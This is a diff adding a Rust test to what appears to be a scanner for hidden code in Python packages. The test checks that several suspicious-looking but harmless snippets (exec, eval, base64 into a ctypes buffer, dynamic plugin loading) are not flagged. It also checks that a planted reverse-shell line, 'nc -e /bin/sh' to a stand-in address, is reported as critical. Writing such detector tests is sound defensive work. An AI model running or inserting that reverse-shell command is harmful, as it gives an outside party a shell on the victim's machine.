@@ -373,3 +373,30 @@ fn an_honest_setup_py_is_quiet() {
         );
     }
 }
+
+/// Shapes of honest packages that were called hidden code, each with what it stands for.
+#[test]
+fn honest_shapes_of_the_first_lot_stay_quiet() {
+    for code in [
+        // Texts are put together from what is gone through from its end.
+        "def f(args):\n    out = []\n    for a, i in reversed(list(zip(args, args))):\n        out.append(str(a))\n    exec('\\n'.join(out))\nf(x)\n",
+        // What is cut off a text does not come into it.
+        "import codecs\nBOM = codecs.BOM_UTF8.decode('utf-8')\ndef f(text):\n    return eval(text.lstrip(BOM))\n",
+        // A program that copies, whose name ends like one that gives a shell.
+        "import subprocess\ndef f(to):\n    subprocess.run(['rsync', '-az', '-e', 'ssh -F ' + to, to])\n",
+        // Memory that is filled, and not run.
+        "import base64, ctypes\ndef f(t):\n    return ctypes.create_string_buffer(base64.b64decode(t))\n",
+        // A table of letters and what they stand for.
+        "T = str.maketrans('АВСЕМ.,~', 'ABCEM+/=')\n",
+        // Plug-ins of its own, by names that only the run would tell.
+        "import importlib.util, os\nhere = os.path.dirname(os.path.abspath(__file__))\nfor name in os.listdir(here):\n    if name.endswith('.py'):\n        spec = importlib.util.spec_from_file_location(name, os.path.join(here, name))\n        spec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
+    ] {
+        let env = Env::new();
+        env.install("made-up", "1.0", &[("made_up/__init__.py", code)]);
+        assert!(of(&env.audit(), Kind::Code).is_empty(), "{code}");
+    }
+    let env = Env::new();
+    let shell = "import os\nos.system('nc -e /bin/sh 192.0.2.1 9')\n";
+    env.install("made-up", "1.0", &[("made_up/__init__.py", shell)]);
+    critical(&env.audit(), Kind::Code, "made_up/__init__.py");
+}
